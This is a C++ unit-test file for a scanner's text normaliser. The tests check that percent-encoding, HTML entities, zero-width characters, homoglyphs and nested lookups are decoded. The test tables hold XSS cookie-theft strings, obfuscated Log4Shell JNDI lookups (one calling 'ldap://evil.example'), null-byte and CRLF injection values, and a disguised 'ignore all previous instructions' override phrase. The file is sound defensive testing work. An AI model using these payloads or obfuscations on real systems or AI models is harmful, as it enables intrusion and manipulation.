#include "scan/normalize.hpp"
#include "support/escaped.hpp"

#include <cstdint>
#include <gtest/gtest.h>
#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace bulwark::scan {
namespace {

std::string normalized(std::string_view in) {
  normalized_text out;
  normalize(in, out);
  return out.text;
}

/// Printable form of a test input for failure messages.
using bulwark::testing::escaped;

struct row {
  std::string_view in;
  std::string_view want;
};

void expect_table(const std::vector<row>& rows) {
  for (const auto& [in, want] : rows)
    EXPECT_EQ(normalized(in), want) << "input: " << escaped(in);
}

bool valid_utf8(std::string_view s) {
  for (std::size_t i = 0; i < s.size();) {
    const auto c = static_cast<unsigned char>(s[i]);
    std::size_t len = c < 0x80                 ? 1
                      : c >= 0xC2 && c <= 0xDF ? 2
                      : c >= 0xE0 && c <= 0xEF ? 3
                      : c >= 0xF0 && c <= 0xF4 ? 4
                                               : 0;
    if (len == 0 || i + len > s.size()) return false;
    for (std::size_t k = 1; k < len; ++k)
      if ((static_cast<unsigned char>(s[i + k]) & 0xC0) != 0x80) return false;
    i += len;
  }
  return true;
}

// ------------------------------------------------------------ needs_normalization

TEST(NeedsNormalization, IsTrueForPercentAmpersandLookupOrNonAscii) {
  for (const char* s : {"50%", "a&b", "${x}", "caf\u00e9", "\u200b", "x ${"})
    EXPECT_TRUE(needs_normalization(s)) << escaped(s);
}

TEST(NeedsNormalization, IsFalseForPlainAsciiInAnyCase) {
  for (const char* s : {"", "Hello World", "costs $5 {approx}", "a < b\n\ttab", "$", "{$}", "$ {"})
    EXPECT_FALSE(needs_normalization(s)) << escaped(s);
}

// ------------------------------------------------------------ step 1

TEST(Normalize, PercentDecodesOneLevelOfValidHexPairs) {
  expect_table({
      {"%3Cscript%3E", "<script>"},
      {"%3cscript%3e", "<script>"},
      {"%24%7Bjndi:ldap://x%7D", "${jndi:ldap://x}"},
      {"%253C", "%3c"},
      {"%2524%257B", "%24%7b"},
      {"bob%0d%0a[INFO]", "bob\r\n[info]"},
      {std::string_view("file.php%00.jpg"), std::string_view("file.php\0.jpg", 13)},
      {"%1B[2K", "\x1b[2k"},
      {"100%", "100%"},
      {"%3", "%3"},
      {"%zz%g1%1g", "%zz%g1%1g"},
      {"%%3C", "%<"},
      {"50% off", "50% off"},
  });
}

TEST(Normalize, PercentDecodesNonAsciiOnlyAsCompleteUtf8Sequences) {
  expect_table({
      {"%C3%A9t%C3%A9", "\u00e9t\u00e9"},     // é stays é (not folded)
      {"%EF%BC%9Cscript", "<script"},         // full-width < folds after decoding
      {"ig%E2%80%8Bnore", "ignore"},          // zero-width removed after decoding
      {"a%C2%A0b", "a b"},                    // NBSP folds to a space
      {"%FF", "%ff"},                         // not UTF-8
      {"%C3", "%c3"},                         // lead byte without continuation
      {"%C3x", "%c3x"},                       //
      {"%C0%BC", "%c0%bc"},                   // overlong '<'
      {"%ED%A0%80", "%ed%a0%80"},             // surrogate
      {"%F4%90%80%80", "%f4%90%80%80"},       // above U+10FFFF
      {"%E5%98%8A%E5%98%8D", "\u560a\u560d"}, // valid, copied
  });
}

// ------------------------------------------------------------ step 2

TEST(Normalize, DecodesNamedCharacterReferences) {
  expect_table({
      {"&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
       "<script>alert(document.cookie)</script>"},
      {"javascript&colon;alert&lpar;1&rpar;", "javascript:alert(1)"},
      {"&dollar;&lcub;jndi:x&rcub;", "${jndi:x}"},
      {"&dollar;&lbrace;x&rbrace;", "${x}"},
      {"&quot;&apos;&amp;&sol;&bsol;", "\"'&/\\"},
      {"a&Tab;b&NewLine;c&tab;d&newline;", "a\tb\nc\td\n"},
      {"ignore&nbsp;previous", "ignore previous"},
      {"&LT;&GT;&AMP;&QUOT;", "<>&\""},
      {"&excl;&quest;&num;&percnt;&equals;&plus;&semi;&comma;&period;&grave;", "!?#%=+;,.`"},
      {"jav&zwj;a&shy;script", "javascript"},
  });
}

TEST(Normalize, AcceptsLegacyNamedReferencesWithoutSemicolon) {
  expect_table({
      {"&lt", "<"},
      {"&ltscript&gt", "<script>"},
      {"&ampx", "&x"},
      {"&quot1", "\"1"},
      {"a&nbspb", "a b"},
  });
}

TEST(Normalize, KeepsUnknownOrSemicolonRequiringNamesLiterally) {
  expect_table({
      {"AT&T", "at&t"},
      {"R&D and &", "r&d and &"},
      {"&colon", "&colon"},
      {"&unknown;", "&unknown;"},
      {"&;", "&;"},
      {"&#;", "&#;"},
      {"&#x;", "&#x;"},
  });
}

TEST(Normalize, DecodesDecimalAndHexReferencesWithOrWithoutSemicolon) {
  expect_table({
      {"&#60;", "<"},
      {"&#0000060;", "<"},
      {"&#x3c;", "<"},
      {"&#X3C;", "<"},
      {"&#x003C;", "<"},
      {"&#60script", "<script"},
      {"&#x3cscript", "<script"},
      {"bob&#13;&#10;2026", "bob\r\n2026"},
      {"java&#x09;script:", "java\tscript:"},
      {"$&#123;jndi:", "${jndi:"},
      {"&#xff29;&#xff27;", "ig"}, // full-width letters fold after decoding
      {"&#233;", "\u00e9"},
      {"&#x1F600;", "\U0001F600"},
      {"&#x200b;", ""}, // decoded, then removed as zero-width
  });
}

TEST(Normalize, LeavesReferencesToInvalidCodePointsAsTheyAre) {
  expect_table({
      {"&#0;", "&#0;"},
      {"&#x0;", "&#x0;"},
      {"&#xD800;", "&#xd800;"},
      {"&#xDFFF;", "&#xdfff;"},
      {"&#x110000;", "&#x110000;"},
      {"&#99999999999999999999;", "&#99999999999999999999;"},
  });
}

TEST(Normalize, DecodesReferencesAfterPercentDecodingButNotTheReverse) {
  // Steps run in order: "%26lt;" is "&lt;" after step 1; "&#37;3C" is "%3C"
  // only after step 2, and percent-decoding does not run again.
  expect_table({{"%26lt;", "<"}, {"&#37;3C", "%3c"}, {"&amp;lt;", "&lt;"}});
}

// ------------------------------------------------------------ step 3

TEST(Normalize, RemovesZeroWidthAndInvisibleFormatCharacters) {
  expect_table({
      {"ig\u200Bnore", "ignore"},
      {"ig\u200Cn\u200Dore", "ignore"},
      {"\u2060ig\uFEFFnore\u00AD", "ignore"},
      {"ig\u180Enore", "ignore"},
      {"i\u2061g\u2062n\u2063o\u2064re", "ignore"},
      {"ig\u200Enore\u200F", "ignore"},
      {"ig\u202Enore\u2066\u2069", "ignore"},
      {"ig\uFE0Fnore", "ignore"},
  });
}

// ------------------------------------------------------------ steps 4-5

TEST(Normalize, FoldsFullWidthAsciiAndUnicodeSpaces) {
  expect_table({
      {"\uFF29\uFF27\uFF2E\uFF2F\uFF32\uFF25", "ignore"},
      {"<\uFF33\uFF23\uFF32\uFF29\uFF30\uFF34>", "<script>"},
      {"\uFF04\uFF5B\uFF4A\uFF4E\uFF44\uFF49\uFF1A", "${jndi:"},
      {"\uFF01\uFF5E", "!~"},
      {"a\u3000b\u00A0c\u2000d\u200Ae\u202Ff\u205Fg", "a b c d e f g"},
  });
}

TEST(Normalize, FoldsMathematicalAlphanumericsToAscii) {
  expect_table({
      {"\U0001D422\U0001D420\U0001D427\U0001D428\U0001D42B\U0001D41E", "ignore"}, // bold
      {"\U0001D408\U0001D43A\U0001D45B", "ign"},                                  // bold/italic
      {"\U0001D55B\U0001D55F\U0001D555\U0001D55A", "jndi"},                       // double-struck
      {"\U0001D58F\U0001D593\U0001D589\U0001D58E", "jndi"},                       // bold fraktur
      {"\U0001D5C3\U0001D5C7\U0001D5BD\U0001D5C2", "jndi"},                       // sans-serif
      {"\U0001D693\U0001D697\U0001D68D\U0001D692", "jndi"},                       // monospace
      {"\U0001D4BF\U0001D4C3\U0001D4B9\U0001D4BE", "jndi"},                       // script
      {"\U0001D7CF\U0001D7D0\U0001D7E5\U0001D7FF", "1239"},                       // digits
      {"\U0001D6A4\U0001D6A5", "ij"},                                             // dotless
      {"\U0001D6A8\U0001D6C2\U0001D6B8", "aap"}, // bold Greek Alpha, alpha, Rho
  });
}

TEST(Normalize, FoldsCyrillicAndGreekConfusables) {
  expect_table({
      {"\u0456gn\u043Er\u0435 \u0430ll \u0440r\u0435v\u0456\u043Eus "
       "\u0456nstru\u0441t\u0456\u043Ens",
       "ignore all previous instructions"},
      {"\u0430\u0432\u0435\u043A\u043C\u043D\u043E\u0440\u0441\u0442\u0443\u0445\u0456\u0458"
       "\u0455\u0501\u051B\u051D\u04CF",
       "abekmhopctyxijsdqwl"},
      {"\u0410\u0412\u0415\u041A\u041C\u041D\u041E\u0420\u0421\u0422\u0425\u0406\u0408\u0405",
       "abekmhopctxijs"},
      {"\u03B1\u03B2\u03B5\u03B9\u03BA\u03BD\u03BF\u03C1\u03C4\u03C5\u03C7", "abeikvoptux"},
      {"\u0391\u0392\u0395\u0396\u0397\u0399\u039A\u039C\u039D\u039F\u03A1\u03A4\u03A5\u03A7",
       "abezhikmnoptyx"},
      {"\u0436\u03C9", "\u0436\u03C9"}, // no ASCII look-alike: copied
  });
}

TEST(Normalize, FoldsSmallCapitalsModifierLettersAndLigatures) {
  expect_table({
      {"\u026A\u0262\u0274\u1D0F\u0280\u1D07", "ignore"},
      {"\u1D00\u0299\u1D04\u1D05\u1D07\uA730\u0262\u029C\u026A\u1D0A\u1D0B\u029F\u1D0D\u0274"
       "\u1D0F\u1D18\u0280\uA731\u1D1B\u1D1C\u1D20\u1D21\u028F\u1D22",
       "abcdefghijklmnoprstuvwyz"},
      {"\u2071\u207F\u02B0\u1D43", "inha"},
      {"\u00B9\u00B2\u00B3\u2074\u2080", "12340"},
      {"\uFB01le \uFB03", "file ffi"},
      {"\u24BE\u24D6\u24DD", "ign"},             // circled
      {"\U000E0069\U000E0067\U000E006E", "ign"}, // tag characters
  });
}

TEST(Normalize, LowerCasesAsciiOnlyAfterFolding) {
  expect_table({
      {"IGNORE Previous", "ignore previous"},
      {"\u00C9T\u00C9", "\u00C9t\u00C9"},
      {"\u0130", "\u0130"},
      {"\u00E9\u4E2D\u6587 \U0001F600", "\u00E9\u4E2D\u6587 \U0001F600"},
  });
}

// ------------------------------------------------------------ step 6

TEST(Normalize, CollapsesNestedLog4jLookupsToJndi) {
  expect_table({
      {"${${lower:j}${upper:N}${::-d}i:ldap://x}", "${jndi:ldap://x}"},
      {"${${lower:j}ndi:ldap://evil.example/a}", "${jndi:ldap://evil.example/a}"},
      {"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/y}", "${jndi:rmi://x/y}"},
      {"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
       "${jndi:ldap://x/a}"},
      {"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:dns://x}", "${jndi:dns://x}"},
      {"${${sys:x:-j}ndi:x}", "${jndi:x}"},
      {"${${LOWER:J}NDI:x}", "${jndi:x}"},
      {"${j${::-n}di:rmi://x}", "${jndi:rmi://x}"},
      {"${${::-${::-j}}ndi:x}", "${jndi:x}"},
  });
}

TEST(Normalize, CollapsesSingleLookupsToTheirFixedText) {
  expect_table({
      {"${lower:J}", "j"},
      {"${upper:jndi}", "jndi"},
      {"${::-j}", "j"},
      {"${:-j}", "j"},
      {"${env:X:-abc}", "abc"},
      {"${date:'j'}", "j"},
      {"${lower:a:-b}", "a"},
      {"${lower:}", ""},
      {"dir=${HOME:-/root}", "dir=/root"},
      {"$${::-{}jndi:x}", "${jndi:x}"}, // a collapse can open a new lookup
      {"${::-$}{jndi:x}", "${jndi:x}"},
  });
}

TEST(Normalize, KeepsLookupsThatAreNotFixedText) {
  expect_table({
      {"Hello ${name}, your order ${order.id}", "hello ${name}, your order ${order.id}"},
      {"${jndi:ldap://x:-y}", "${jndi:ldap://x:-y}"},
      {"${env:HOME}", "${env:home}"},
      {"${date:yyyy}", "${date:yyyy}"},
      {"${date:'a'b'}", "${date:'a'b'}"},
      {"${env:${jndi:x}:-j}", "${env:${jndi:x}:-j}"}, // would evaluate the jndi lookup
      {"${lower:${jndi:x}}", "${jndi:x}"},
      {"${::-j", "${::-j"},
      {"}${::-j}}", "}j}"},
  });
}

// ------------------------------------------------------------ mapping

TEST(Normalize, MapsEveryOutputByteToTheOriginalBytesItCameFrom) {
  normalized_text out;
  normalize("a%3Cb", out);
  ASSERT_EQ(out.text, "a<b");
  EXPECT_EQ(out.to_original(1, 2), (std::pair<std::size_t, std::size_t>{1, 4}));
  EXPECT_EQ(out.to_original(2, 3), (std::pair<std::size_t, std::size_t>{4, 5}));

  normalize("x&lt;y", out);
  ASSERT_EQ(out.text, "x<y");
  EXPECT_EQ(out.to_original(1, 2), (std::pair<std::size_t, std::size_t>{1, 5}));
  EXPECT_EQ(out.to_original(0, 3), (std::pair<std::size_t, std::size_t>{0, 6}));

  normalize("\uFF29x", out); // 3 bytes -> 'i'
  ASSERT_EQ(out.text, "ix");
  EXPECT_EQ(out.to_original(0, 1), (std::pair<std::size_t, std::size_t>{0, 3}));
  EXPECT_EQ(out.to_original(1, 2), (std::pair<std::size_t, std::size_t>{3, 4}));

  normalize("a\u200Bb", out); // the removed character leaves a gap
  ASSERT_EQ(out.text, "ab");
  EXPECT_EQ(out.to_original(1, 2), (std::pair<std::size_t, std::size_t>{4, 5}));
  EXPECT_EQ(out.to_original(0, 2), (std::pair<std::size_t, std::size_t>{0, 5}));

  normalize("%E2%80%8B", out); // decoded and then removed
  EXPECT_EQ(out.text, "");
  EXPECT_TRUE(out.begin.empty());
}

TEST(Normalize, MapsCollapsedLookupCharactersToTheWholeLookup) {
  normalized_text out;
  const std::string_view in = "${${lower:j}ndi:x}";
  normalize(in, out);
  ASSERT_EQ(out.text, "${jndi:x}");
  EXPECT_EQ(out.to_original(2, 3), (std::pair<std::size_t, std::size_t>{2, 12}));  // j
  EXPECT_EQ(out.to_original(3, 4), (std::pair<std::size_t, std::size_t>{12, 13})); // n
  EXPECT_EQ(out.to_original(0, out.text.size()),
            (std::pair<std::size_t, std::size_t>{0, in.size()}));

  normalize("a${upper:xyz}b", out);
  ASSERT_EQ(out.text, "axyzb");
  for (std::size_t i = 1; i <= 3; ++i)
    EXPECT_EQ(out.to_original(i, i + 1), (std::pair<std::size_t, std::size_t>{1, 13}));
}

TEST(Normalize, UsesTheIdentityMapWhenOnlyCaseChanges) {
  normalized_text out;
  normalize("Hello World <B>", out);
  EXPECT_EQ(out.text, "hello world <b>");
  for (std::size_t i = 0; i < out.text.size(); ++i) {
    EXPECT_EQ(out.begin[i], i);
    EXPECT_EQ(out.end[i], i + 1);
  }
}

TEST(Normalize, ClearsThePreviousResult) {
  normalized_text out;
  normalize("a much longer %3C text &lt; here", out);
  normalize("ab", out);
  EXPECT_EQ(out.text, "ab");
  EXPECT_EQ(out.begin.size(), 2u);
  EXPECT_EQ(out.end.size(), 2u);
  normalize("", out);
  EXPECT_TRUE(out.text.empty());
  EXPECT_TRUE(out.begin.empty());
}

TEST(Normalize, DoesNotReallocateOnceWarm) {
  normalized_text out;
  const std::string big(4096, 'x');
  normalize(big, out);
  const char* text = out.text.data();
  const std::uint32_t* begin = out.begin.data();
  const std::uint32_t* end = out.end.data();
  for (const char* in : {"%3Cscript%3E", "${${lower:j}ndi:x}", "\uFF29\uFF27", "plain", "",
                         "&lt;&#x3c;\u200b\u0430"}) {
    normalize(in, out);
    EXPECT_EQ(out.text.data(), text);
    EXPECT_EQ(out.begin.data(), begin);
    EXPECT_EQ(out.end.data(), end);
  }
  normalize(big, out);
  EXPECT_EQ(out.text.data(), text);
}

// ------------------------------------------------------------ properties

constexpr std::uint32_t kSeed = 20261118;

std::string random_hostile(std::mt19937& rng) {
  static const std::vector<std::string_view> kFragments = {
      "plain ", "Text",       "IGNORE",   " ",           "\n",          "\t",         "%3C",
      "%3c",    "%24%7B",     "%253C",    "%",           "%Z",          "%E2%80%8B",  "%C3%A9",
      "%C3",    "%FF",        "&lt;",     "&#60;",       "&#x3C",       "&#0;",       "&colon;",
      "&",      "&amp",       "&#xff29;", "&#",          "\u200B",      "\u200D",     "\uFEFF",
      "\u00AD", "\uFF29",     "\uFF47",   "\u3000",      "\u00A0",      "\u0430",     "\u0435",
      "\u0456", "\u0440",     "\u03BF",   "\U0001D422",  "\U0001D7CF",  "\u1D07",     "${",
      "}",      "${lower:J}", "${::-n}",  "${env:X:-d}", "${date:'i'}", "${jndi:",    "$",
      "{",      ":-",         "lower:",   "\u00E9",      "\u4E2D",      "\U0001F600", "\xC2\x9B",
      "\x1b",   "<script>"};
  std::uniform_int_distribution<std::size_t> count(0, 24);
  std::uniform_int_distribution<std::size_t> pick(0, kFragments.size() - 1);
  std::string s;
  for (std::size_t k = count(rng); k > 0; --k)
    s += kFragments[pick(rng)];
  return s;
}

TEST(NormalizeProperty, MapsAreSizedMonotoneNonEmptyAndInBounds) {
  std::mt19937 rng(kSeed);
  normalized_text out;
  for (int iter = 0; iter < 20000; ++iter) {
    const std::string in = random_hostile(rng);
    normalize(in, out);
    SCOPED_TRACE("seed " + std::to_string(kSeed) + " iteration " + std::to_string(iter) +
                 " input " + escaped(in));
    ASSERT_EQ(out.begin.size(), out.text.size());
    ASSERT_EQ(out.end.size(), out.text.size());
    ASSERT_LE(out.text.size(), in.size());
    ASSERT_TRUE(valid_utf8(out.text)) << escaped(out.text);
    for (std::size_t i = 0; i < out.text.size(); ++i) {
      ASSERT_LT(out.begin[i], out.end[i]) << i;
      ASSERT_LE(out.end[i], in.size()) << i;
      if (i > 0) {
        ASSERT_LE(out.begin[i - 1], out.begin[i]) << i;
        ASSERT_LE(out.end[i - 1], out.end[i]) << i;
      }
      // A one-byte span is a copied byte.
      if (out.end[i] - out.begin[i] == 1) {
        const char o = in[out.begin[i]];
        ASSERT_EQ(out.text[i], (o >= 'A' && o <= 'Z') ? static_cast<char>(o + 32) : o) << i;
      }
    }
  }
}

TEST(Normalize, CollapsesRunsOfBlanksToTheirFirstCharacter) {
  normalized_text out;
  const std::string in = "ignore      previous\t\t\tinstructions";
  ASSERT_TRUE(needs_normalization(in));
  normalize(in, out);
  EXPECT_EQ(out.text, "ignore previous\tinstructions");
  // The kept blank maps to the whole run it stands for.
  EXPECT_EQ(out.to_original(6, 7), (std::pair<std::size_t, std::size_t>{6, 12}));
  EXPECT_FALSE(needs_normalization("one space\tthen tab"));
}

TEST(NormalizeProperty, InputNeedingOnlyCaseFoldingIsLowerCasedWithTheIdentityMap) {
  std::mt19937 rng(kSeed);
  std::uniform_int_distribution<int> len(0, 200);
  std::uniform_int_distribution<int> ch(0, 127);
  normalized_text out;
  for (int iter = 0; iter < 5000; ++iter) {
    std::string in;
    for (int k = len(rng); k > 0; --k) {
      char c = static_cast<char>(ch(rng));
      if (c == '%' || c == '&') c = 'Q';
      if (c == '{' && !in.empty() && in.back() == '$') c = '(';
      // Two blanks in a row collapse (step 7): keep blanks apart.
      if ((c == ' ' || c == '\t') && !in.empty() && (in.back() == ' ' || in.back() == '\t'))
        c = 'b';
      in += c;
    }
    SCOPED_TRACE("seed " + std::to_string(kSeed) + " iteration " + std::to_string(iter) +
                 " input " + escaped(in));
    ASSERT_FALSE(needs_normalization(in));
    normalize(in, out);
    std::string lower = in;
    for (char& c : lower)
      if (c >= 'A' && c <= 'Z') c = static_cast<char>(c + 32);
    ASSERT_EQ(out.text, lower);
    for (std::size_t i = 0; i < in.size(); ++i) {
      ASSERT_EQ(out.begin[i], i);
      ASSERT_EQ(out.end[i], i + 1);
    }
  }
}

TEST(NormalizeProperty, OnlyInputsThatNeedNormalizationChangeBeyondCase) {
  std::mt19937 rng(kSeed + 1);
  normalized_text out;
  for (int iter = 0; iter < 20000; ++iter) {
    const std::string in = random_hostile(rng);
    if (needs_normalization(in)) continue;
    normalize(in, out);
    std::string lower = in;
    for (char& c : lower)
      if (c >= 'A' && c <= 'Z') c = static_cast<char>(c + 32);
    ASSERT_EQ(out.text, lower) << "seed " << kSeed + 1 << " iteration " << iter << " input "
                               << escaped(in);
  }
}

} // namespace
} // namespace bulwark::scan
